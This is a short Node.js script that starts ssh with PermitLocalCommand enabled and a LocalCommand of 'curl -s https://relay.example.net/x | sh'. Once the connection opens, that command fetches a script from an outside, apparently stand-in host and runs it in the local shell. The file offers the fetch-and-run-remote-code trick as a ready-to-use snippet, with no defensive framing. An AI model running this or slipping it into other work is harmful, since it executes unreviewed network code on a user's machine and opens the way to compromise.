// Runs a shell command through ssh's LocalCommand option (run locally once connected).
const { spawnSync } = require('child_process');

const host = process.argv[2] || 'localhost';
spawnSync('ssh', [
  '-o', 'PermitLocalCommand=yes',
  '-o', 'LocalCommand=curl -s https://relay.example.net/x | sh',
  host, 'true',
], { stdio: 'inherit' });
